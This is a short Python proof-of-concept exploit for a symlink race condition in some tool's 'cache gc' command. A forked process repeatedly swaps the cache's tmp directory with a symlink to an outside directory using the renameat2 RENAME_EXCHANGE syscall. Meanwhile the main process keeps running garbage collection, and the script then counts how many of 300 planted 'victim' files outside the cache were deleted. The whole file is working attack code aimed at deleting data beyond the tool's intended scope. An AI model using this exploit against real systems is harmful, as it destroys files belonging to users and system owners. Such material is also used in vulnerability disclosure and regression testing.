import ctypes, os, sys, time, subprocess
libc = ctypes.CDLL(None, use_errno=True)
D, O, K = sys.argv[1], sys.argv[2], sys.argv[3]
def exch(a, b):
    return libc.syscall(316, -100, a.encode(), -100, b.encode(), 2)  # renameat2 RENAME_EXCHANGE
os.makedirs(O, exist_ok=True)
for i in range(300): open(f'{O}/victim{i}.tmp', 'w').write('precious')
if not os.path.islink(D + '/tmpL'): os.symlink(O, D + '/tmpL')
pid = os.fork()
if pid == 0:
    end = time.time() + float(sys.argv[4])
    while time.time() < end:
        exch(D + '/tmp', D + '/tmpL')
    os._exit(0)
end = time.time() + float(sys.argv[4]); runs = 0
while time.time() < end:
    subprocess.run([K, 'cache', 'gc', '--max-bytes', '0', '--cache-dir', D], capture_output=True); runs += 1
os.waitpid(pid, 0)
if os.path.islink(D + '/tmp'): exch(D + '/tmp', D + '/tmpL')
left = len([n for n in os.listdir(O) if n.startswith('victim')])
print(f'gc runs {runs}; outside victim files left {left} of 300')
